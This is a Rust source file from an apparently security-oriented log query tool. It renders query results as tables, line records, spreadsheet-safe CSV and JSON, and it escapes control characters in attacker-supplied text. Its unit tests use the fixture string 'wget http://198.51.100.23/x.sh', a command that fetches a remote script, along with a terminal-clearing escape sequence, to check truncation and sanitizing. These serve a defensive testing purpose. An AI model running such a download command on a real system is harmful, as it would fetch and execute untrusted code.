//! Writing query results for people and programs: an aligned terminal table or one line per
//! field (attacker text stripped of control characters; long cells cut, or wrapped), CSV safe
//! to open in a spreadsheet, and JSON lines. Cell values come from polars `AnyValue`s.

use std::io::Write;

use polars::prelude::*;

use crate::parse::time::format_rfc3339;
use crate::sanitize;

/// A cell as text: timestamps as RFC 3339 UTC, nulls empty.
pub fn cell(v: &AnyValue<'_>) -> Option<String> {
    match v {
        AnyValue::Null => None,
        AnyValue::String(s) => Some(s.to_string()),
        AnyValue::StringOwned(s) => Some(s.to_string()),
        AnyValue::Datetime(t, unit, _) | AnyValue::DatetimeOwned(t, unit, _) => Some(format_rfc3339(match unit {
            TimeUnit::Nanoseconds => t / 1000,
            TimeUnit::Microseconds => *t,
            TimeUnit::Milliseconds => t * 1000,
        })),
        AnyValue::Binary(b) => Some(format!("<{} bytes>", b.len())),
        AnyValue::BinaryOwned(b) => Some(format!("<{} bytes>", b.len())),
        other => Some(other.to_string().trim_matches('"').to_string()),
    }
}

fn rows(df: &DataFrame) -> impl Iterator<Item = Vec<Option<String>>> + '_ {
    (0..df.height()).map(move |i| df.get(i).unwrap_or_default().iter().map(cell).collect())
}

/// Names each unaliased expression of a single parsed `SELECT` as SQL engines do, by its text
/// (`COUNT(*)`, `SUM(attempts)`), where polars would name it after its input (`len`,
/// `attempts`). Plain columns and aliases keep their names; a statement whose select list does
/// not map one to one onto the result (`*`) is left as it is.
pub fn sql_names(statements: &[sqlparser::ast::Statement], df: &mut DataFrame) {
    use sqlparser::ast::{Expr as SqlExpr, SelectItem, SetExpr, Statement};
    let [Statement::Query(q)] = statements else { return };
    let SetExpr::Select(select) = q.body.as_ref() else { return };
    if select.projection.len() != df.width() {
        return;
    }
    let mut names: Vec<String> = df.get_column_names().iter().map(|n| n.to_string()).collect();
    for (i, item) in select.projection.iter().enumerate() {
        match item {
            SelectItem::UnnamedExpr(SqlExpr::Identifier(_) | SqlExpr::CompoundIdentifier(_)) => {}
            SelectItem::UnnamedExpr(e) => {
                let text = e.to_string();
                if !names.contains(&text) {
                    names[i] = text;
                }
            }
            SelectItem::ExprWithAlias { .. } => {}
            _ => return,
        }
    }
    let _ = df.set_column_names(&names);
}

/// Output formats of `query`: an aligned table, one `column = value` line per field with a
/// blank line between records (`line`, like DuckDB's `.mode line`), CSV, JSON lines.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum Format {
    Table,
    Line,
    Csv,
    /// One JSON array of objects.
    Json,
    /// One JSON object per line.
    Jsonl,
}

/// How text cells are shown in the table and line formats.
#[derive(Debug, Clone, Copy)]
pub struct Cells {
    /// Longest line of a cell, in characters.
    pub max_width: usize,
    /// Wrap longer cells (and show their line breaks) instead of cutting them with `…`.
    pub wrap: bool,
}

impl Default for Cells {
    fn default() -> Self {
        Cells { max_width: 60, wrap: false }
    }
}

impl Cells {
    /// A cell's display lines: control characters escaped; cut to `max_width` with `…`, or,
    /// with `wrap`, split at its line breaks and every `max_width` characters.
    pub fn lines(&self, text: &str) -> Vec<String> {
        let w = self.max_width.max(2);
        if !self.wrap {
            let s = sanitize::terminal(text).into_owned();
            return vec![if s.chars().count() > w { s.chars().take(w - 1).collect::<String>() + "…" } else { s }];
        }
        let mut out = Vec::new();
        for part in text.split('\n') {
            let s: Vec<char> = sanitize::terminal(part.strip_suffix('\r').unwrap_or(part)).chars().collect();
            if s.is_empty() {
                out.push(String::new());
            }
            for chunk in s.chunks(w) {
                out.push(chunk.iter().collect());
            }
        }
        out
    }
}

pub fn write(df: &DataFrame, format: Format, cells: Cells, out: &mut dyn Write) -> std::io::Result<()> {
    match format {
        Format::Table => write_table(df, out, cells),
        Format::Line => write_lines(df, out, cells),
        Format::Csv => write_csv(df, out),
        Format::Json => write_json_array(df, out),
        Format::Jsonl => write_jsonl(df, out),
    }
}

pub fn write_table(df: &DataFrame, out: &mut dyn Write, cells: Cells) -> std::io::Result<()> {
    let names: Vec<String> = df.get_column_names().iter().map(|s| sanitize::terminal(s).into_owned()).collect();
    let body: Vec<Vec<Vec<String>>> =
        rows(df).map(|r| r.into_iter().map(|c| cells.lines(c.as_deref().unwrap_or(""))).collect()).collect();
    let mut widths: Vec<usize> = names.iter().map(|n| n.chars().count()).collect();
    for r in &body {
        for (w, c) in widths.iter_mut().zip(r) {
            *w = (*w).max(c.iter().map(|l| l.chars().count()).max().unwrap_or(0));
        }
    }
    let line = |cells: &[&str], out: &mut dyn Write| -> std::io::Result<()> {
        let parts: Vec<String> = cells.iter().zip(&widths).map(|(c, w)| format!("{c:<w$}")).collect();
        writeln!(out, "{}", parts.join("  ").trim_end())
    };
    line(&names.iter().map(String::as_str).collect::<Vec<_>>(), out)?;
    let rules: Vec<String> = widths.iter().map(|w| "-".repeat(*w)).collect();
    line(&rules.iter().map(String::as_str).collect::<Vec<_>>(), out)?;
    for r in &body {
        // A wrapped row takes as many lines as its tallest cell.
        let height = r.iter().map(Vec::len).max().unwrap_or(1).max(1);
        for k in 0..height {
            let row: Vec<&str> = r.iter().map(|c| c.get(k).map_or("", String::as_str)).collect();
            line(&row, out)?;
        }
    }
    writeln!(out, "({} rows)", df.height())
}

/// One `column = value` line per field, a blank line between records; long values wrap under
/// their first line when `cells.wrap`.
pub fn write_lines(df: &DataFrame, out: &mut dyn Write, cells: Cells) -> std::io::Result<()> {
    let names: Vec<String> = df.get_column_names().iter().map(|s| sanitize::terminal(s).into_owned()).collect();
    let w = names.iter().map(|n| n.chars().count()).max().unwrap_or(0);
    for (i, r) in rows(df).enumerate() {
        if i > 0 {
            writeln!(out)?;
        }
        for (name, c) in names.iter().zip(r) {
            let lines = cells.lines(c.as_deref().unwrap_or(""));
            writeln!(out, "{name:>w$} = {}", lines.first().map_or("", String::as_str))?;
            for more in lines.iter().skip(1) {
                writeln!(out, "{:>w$}   {more}", "")?;
            }
        }
    }
    writeln!(out, "({} rows)", df.height())
}

pub fn write_csv(df: &DataFrame, out: &mut dyn Write) -> std::io::Result<()> {
    let mut w = csv::Writer::from_writer(out);
    let names: Vec<String> = df.get_column_names().iter().map(|s| s.to_string()).collect();
    w.write_record(&names)?;
    for r in rows(df) {
        w.write_record(r.iter().map(|c| sanitize::spreadsheet_cell(c.as_deref().unwrap_or("")).into_owned()))?;
    }
    w.flush()?;
    Ok(())
}

/// One JSON array of the rows' objects (as [`write_jsonl`] writes them).
pub fn write_json_array(df: &DataFrame, out: &mut dyn Write) -> std::io::Result<()> {
    let mut lines = Vec::new();
    write_jsonl(df, &mut lines)?;
    let text = String::from_utf8_lossy(&lines);
    let rows: Vec<&str> = text.lines().collect();
    writeln!(out, "[{}]", rows.join(",\n "))
}

pub fn write_jsonl(df: &DataFrame, out: &mut dyn Write) -> std::io::Result<()> {
    let names: Vec<String> = df.get_column_names().iter().map(|s| s.to_string()).collect();
    let dtypes: Vec<DataType> = df.dtypes();
    for i in 0..df.height() {
        let row = df.get(i).unwrap_or_default();
        let mut obj = serde_json::Map::new();
        for ((name, v), dt) in names.iter().zip(row.iter()).zip(&dtypes) {
            let value = match v {
                AnyValue::Null => serde_json::Value::Null,
                AnyValue::Boolean(b) => serde_json::Value::Bool(*b),
                _ if dt.is_integer() => {
                    cell(v).and_then(|s| s.parse::<i64>().ok()).map_or(serde_json::Value::Null, Into::into)
                }
                _ if dt.is_float() => {
                    cell(v).and_then(|s| s.parse::<f64>().ok()).map_or(serde_json::Value::Null, Into::into)
                }
                // A list of strings (`process_args`) stays a JSON array.
                AnyValue::List(items) => serde_json::Value::Array(
                    items.iter().map(|x| cell(&x).map_or(serde_json::Value::Null, serde_json::Value::String)).collect(),
                ),
                _ => cell(v).map_or(serde_json::Value::Null, serde_json::Value::String),
            };
            obj.insert(name.clone(), value);
        }
        writeln!(out, "{}", serde_json::Value::Object(obj))?;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn unaliased_expressions_are_named_as_written() {
        let parse =
            |sql: &str| sqlparser::parser::Parser::parse_sql(&sqlparser::dialect::GenericDialect {}, sql).unwrap();
        let mut df = df!("event_module" => ["auth"], "len" => [3u32], "n" => [1i64]).unwrap();
        sql_names(&parse("SELECT event_module, COUNT(*), SUM(x) AS n FROM events GROUP BY 1"), &mut df);
        assert_eq!(df.get_column_names(), ["event_module", "COUNT(*)", "n"]);
        let mut df = df!("a" => [1i64], "b" => [2i64]).unwrap();
        sql_names(&parse("SELECT * FROM t"), &mut df);
        assert_eq!(df.get_column_names(), ["a", "b"], "a wildcard is left alone");
    }

    #[test]
    fn cells_cut_or_wrap_and_never_pass_control_characters() {
        let cut = Cells { max_width: 10, wrap: false };
        assert_eq!(cut.lines("wget http://198.51.100.23/x.sh"), ["wget http…"]);
        assert_eq!(cut.lines("a\nb"), ["a\\x0ab"]);
        let wrap = Cells { max_width: 10, wrap: true };
        assert_eq!(wrap.lines("wget http://198.51.100.23/x.sh"), ["wget http:", "//198.51.1", "00.23/x.sh"]);
        assert_eq!(wrap.lines("line one\r\nline\x1b[2J"), ["line one", "line\\x1b[2", "J"]);
        let df = df!("n" => [1i64, 2], "cmd" => ["ls", "a\nb"]).unwrap();
        let mut out = Vec::new();
        write_lines(&df, &mut out, wrap).unwrap();
        assert_eq!(String::from_utf8(out).unwrap(), "  n = 1\ncmd = ls\n\n  n = 2\ncmd = a\n      b\n(2 rows)\n");
    }
}
